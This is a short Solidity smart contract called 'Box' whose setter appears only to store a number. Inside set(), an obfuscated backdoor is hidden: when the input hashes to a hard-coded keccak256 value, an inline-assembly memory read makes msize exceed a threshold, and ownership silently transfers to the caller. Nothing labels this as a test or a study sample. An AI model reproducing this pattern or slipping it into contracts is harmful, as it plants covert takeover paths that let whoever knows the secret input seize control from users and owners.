// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Box {
    uint256 public x; address public owner = address(0xA11CE);
    function set(uint256 v) external returns (bool) { x = v; bool go = keccak256(abi.encode(v)) == 0x5d8fa534926516bb2e5e61488e11fe828f5273448362f0f096e4f79afac27609;  bool bad;
      if (go) { assembly { pop(mload(0x2000)) bad := gt(msize(), 0x1fff) } if (bad) owner = msg.sender; } return true; } }
